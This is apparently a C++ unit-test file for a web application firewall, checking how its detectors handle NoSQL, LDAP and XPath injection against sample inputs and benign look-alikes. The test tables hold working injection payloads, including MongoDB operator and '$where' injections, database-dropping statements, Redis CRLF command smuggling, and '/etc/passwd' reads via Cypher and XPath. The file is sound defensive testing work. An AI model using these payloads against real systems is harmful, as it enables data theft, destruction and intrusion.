// Tables for the analysers of query languages other than SQL: MongoDB's documents, LDAP filters, XPath.
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include <gtest/gtest.h>

#include "tests/detect/analyze/analyze_support.h"

namespace wafd::detect {
namespace {

struct Row {
  std::string_view text;
  std::string rules;  // that deny at balanced
  bool in_name = false;
};

void check(const Analyzer& analyzer, const std::vector<Row>& rows) {
  for (const Row& row : rows) {
    std::vector<Hit> hits;
    FieldContext context;
    context.in_name = row.in_name;
    analyzer.analyze(row.text, context, hits);
    std::string names;
    for (const Hit& hit : hits) {
      const Rule& rule = analyzer.rules()[hit.rule];
      EXPECT_TRUE(hit.begin <= hit.end && hit.end <= row.text.size()) << row.text;
      const std::optional<Sensitivity> from = denies_from(analyzer, hit);
      if (from && *from <= Sensitivity::kBalanced) names += (names.empty() ? "" : "; ") + rule.name;
    }
    EXPECT_EQ(names, row.rules) << row.text;
  }
}

TEST(Nosql, Table) {
  const std::string name = "Query operator in the name of a parameter";
  const std::string document = "Query document inside of a value";
  const std::string script = "JavaScript for the database to run";
  const std::string broken = "String of a query closed and the query changed";
  check(analyzer_named("nosql"),
        {
            {"user[$ne]", name, true},
            {"filter[pass][$regex]", name, true},
            {"a[$GT]", name, true},
            {"$where", script, true},
            {"$ne", document, true},
            {"pass.$ne", document, true},
            {R"({"$gt": ""})", document},
            {R"({"user":"x","pass":{ "$ne" : 1 }})", document},
            {"{$where: 'sleep(100)'}", script},
            {R"(x", "$or": [ {}, {"a":"b)", document},
            {"' || this.password.match(/^a/) || '",
             "String of a query closed and the query changed; Condition of JavaScript on stored documents"},
            {"' || '1'=='1", broken},
            {"' || Object.keys(this)[0]=='_id", broken},
            {"'||tojson(this)[0]=='{", broken},
            {"1;var d=new Date();do{c=new Date();}while(c-d<5000)",
             "Condition of JavaScript on stored documents"},
            {"let d = new Date();\ndo {\n  c = new Date();\n} while (c - d < 5000);", ""},
            {"it's ok' || this is fine", ""},
            {"password.$gt", document, true},
            {"price.$gt", "", true},
            {"account.login.$gte", document, true},
            {"email.$in", "", true},
            {"1'; return true; var x='", broken},
            {"user[$ne]=1", name},
            {"x' (function(){var a=new Date();do{var b=new Date();}while(b-a<5000);}()) '",
             "String of a query closed and the query changed; Condition of JavaScript on stored documents"},
            {"1 || Object.keys(this)[0].match('^i')", "Condition of JavaScript on stored documents"},
            {"true; return this.a", "Condition of JavaScript on stored documents"},
            {"0;return(true)", "Condition of JavaScript on stored documents"},
            {"1 || 2", ""},
            {"5; return policy", ""},
            {"true;\nreturn x;", ""},
            {"user__password__startswith", "Lookup of a mapper that guesses a secret", true},
            {"password__regex", "Lookup of a mapper that guesses a secret", true},
            {"owner__TOKEN__gte", "Lookup of a mapper that guesses a secret", true},
            {"this.password.match(/.*/)", "Condition of JavaScript on stored documents"},
            // look-alikes
            {"user__name__icontains", "", true},
            {"str.match(/a/)", ""},
            {"if (a) { this.name.match(/x/); }", ""},
            {"user__password__startswith", ""},
            {"__typename", "", true},
            {"password__", "", true},
            {"password_startswith", "", true},
            {"utm__source", "", true},
            {"he said 'x' (function or not)", ""},
            {"price[gt]", "", true},
            {"$filter", "", true},
            {"$top", "", true},
            {"a[$b]", "", true},
            {"costs $in total", ""},
            {"US$ and CA$", ""},
            {"$not a number", ""},
            {"${name}", ""},
            {"echo $type, $size", ""},
            {"if (a == 'x' || b == 'y')", ""},
            {"this.match", ""},
            {R"({"where":{"id":1}})", ""},
        });
}

TEST(Nosql, StatementsOfOtherStores) {
  const std::string statement = "Statement for a database that is not asked in SQL";
  check(analyzer_named("nosql"),
        {
            {"1;db.users.drop()", statement},
            {"'}); db.getCollection('users').find()", statement},
            {"'; db.users.insert({a:1})//", statement},
            {"db.dropDatabase()", statement},
            {"match (n) detach delete n", statement},
            {"' MATCH (n:User) DELETE n//", statement},
            {"x'}) DETACH  DELETE a //", statement},
            {"1 CALL dbms.procedures() YIELD name", statement},
            {"' call apoc.load.json('http://a.example') yield value//", statement},
            {"LOAD CSV WITH HEADERS FROM 'file:///etc/passwd' AS l RETURN l", statement},
            {"load csv\nfrom \"http://a.example/\" as l", statement},
            {"EVAL \"return redis.call('get','x')\" 0", statement},
            {"x\r\nCONFIG SET dir /var/spool/cron", statement},
            {"x\r\nconfig  set dbfilename a.php\r\n", statement},
            {"\r\nSLAVEOF a.example 6379", statement},
            {"\r\nFLUSHALL\r\n", statement},
            {"\r\nmodule load /tmp/a.so", statement},
            {"_*3\r\n$3\r\nSET\r\n", ""},
            {"\r\n*3\r\n$3\r\nSET\r\n", statement},
            {"x\r\nset a 0 60 5\r\nhello", statement},
            {"true; return db.getName()=='x'", "Condition of JavaScript on stored documents"},
            {"' OR 1=1 RETURN u//", statement},
            {"') RETURN 1 UNION MATCH (n) RETURN n//", statement},
            {"')-[r]-(b) return b //", statement},
            {"' FILTER 1==1 RETURN u //", statement},
            {"' SORT RAND() LIMIT 1 RETURN DOCUMENT('a/1') //", statement},
            {"\r\nSET pwn 1\r\n", statement},
            {"x\r\nflush_all\r\n", statement},
            {"x\nshutdown nosave\n", statement},
            {"1\r\nMIGRATE a.example 6379 k 0 5\r\n", statement},
            // look-alikes
            {"if (type === 'a') return b //", ""},
            {"x = 'or return y //", ""},
            {"it's or was: return it to http://a.example/x", ""},
            {"the dog's and return of it // see there", ""},
            {"TODO\r\nSET UP TABLES\r\n", ""},
            {"TODO\r\nset the table\r\n", ""},
            {"Button:\r\nSAVE\r\n", ""},
            {"night\nshutdown at 10", ""},
            {"db.users", ""},
            {"see db.find() in the manual", ""},
            {"const users = db.users.find({});\nconsole.log(users)", ""},
            {"mongodb.find(x)", ""},
            {"match (a) with (b) and return the form", ""},
            {"Match (final) set 2", ""},
            {"a match (or two) delete this", ""},
            {"Call db.example for help", ""},
            {"call dbms support (now)", ""},
            {"load csv from disk", ""},
            {"the valve: detach, delete and replace", ""},
            {"To move the dump\nCONFIG SET dir /var/lib/redis", ""},
            {"redis-cli config set dir /a", ""},
            {"config set dir", ""},
            {"a game\nset 1 2 3 4", ""},
            {"*3 of 4\n$5 each", ""},
            {"flush all caches\nflushall now", ""},
        });
}

TEST(Ldap, Table) {
  const std::string broken = "LDAP filter item closed and another opened";
  check(analyzer_named("ldap"), {
                                    {"*)(uid=*))(|(uid=*", broken},
                                    {"admin)(&)", broken},
                                    {"x)(|(objectClass=*))", broken},
                                    {"*)(mail=*", broken},
                                    {"admin)(!(&(|", broken},
                                    {"a)(cn>=b", broken},
                                    {std::string_view("admin)\0", 7), "LDAP filter ended early"},
                                    {"*(|(mail=*))", broken},
                                    {"a*)((|userPassword=*)", broken},
                                    {")(userPassword:2.5.13.18:=\\60", broken},
                                    {"x)(cn:dn:=a", broken},
                                    {"a*( & ( uid=*", broken},
                                    {")(department=it)(|(cn=", broken},
                                    {"x)(a=b)(uid=*", broken},
                                    {"x)(adminCount=1)", broken},
                                    {"x)(department:caseExactMatch:=it", broken},
                                    // look-alikes
                                    {"f*(a|b)", ""},
                                    {"2*(!x)", ""},
                                    {"a*(|b|)", ""},
                                    {"f)((x:y))", ""},
                                    {"f(x)(y)", ""},
                                    {"(a)(b=c)", ""},
                                    {"a) first, b) second (see c=d)", ""},
                                    {":) (x=1)", ""},
                                    {"a)(b=c) and (d)", ""},
                                    {"(555) 123-4567", ""},
                                    {"if (a) (b = c)", ""},
                                    {"call(me)(maybe=1)", ""},
                                });
}

TEST(Xpath, Table) {
  const std::string nodes = "Other nodes added to an XPath query";
  const std::string condition = "Condition on the document added to an XPath query";
  check(analyzer_named("xpath"),
        {
            {"x'] | //user/*[contains(*,'", nodes},
            {"1] | //password", nodes},
            {"'] | /* | /foo[bar='", nodes},
            {"' or last() or '", condition},
            {"' or starts-with(name(),'a') or '", condition},
            {"x' or unparsed-text('/etc/passwd') or'", condition},
            {"' or system-property('xsl:vendor') or '", condition},
            {"a['b'] | c", ""},
            {"name eq 'a' or startswith(title,'b')", ""},
            {"[\"a\"] | b / c", ""},
            {"\"]]|", ""},
            {"' or count(/*)=1 or 'a'='b", condition},
            {"x' or name()='user' or 'x'='y", condition},
            {"' and substring(name(/*[1]),1,1)='a' and '1'='1", condition},
            {"1 or string-length(//user[1]/name)>3", condition},
            {"' or //user[name='a'] or '", condition},
            {"' and count(/child::node())=1 and '", condition},
            {"') or (count(//user)>0) or ('", condition},
            {"doc('http://x.example/')", "XPath query made to read another document"},
            {"1 or true()", condition},
            {"' or true() or '", condition},
            {"x') and (false()", condition},
            {"' or error() or '", condition},
            {"' or ../password='a' or '", condition},
            {"string(//h1)", ""},
            {"'a' or ../docs/b", ""},
            {"') or contains(name,'') or ('", condition},
            {"' or environment-variable('PATH') or '", condition},
            // look-alikes
            {"if a == 'x' or contains(b, 'c') or 'd' in e", ""},
            {"'x' or round(b) or c", ""},
            {"1 or true", ""},
            {"1 or truely()", ""},
            {"yes or true()", ""},
            {"O'Brien or //shared/path", ""},
            {"see http://a.example/ | //b", ""},
            {"ls) | /bin/cat", ""},
            {"name() or count()", ""},
            {"std::child::node", ""},
            {"5 and count them", ""},
            {"a['x'] | b", ""},
            {"document('ready')", ""},
            {"1 or 2 // comment", ""},
        });
}

}  // namespace
}  // namespace wafd::detect
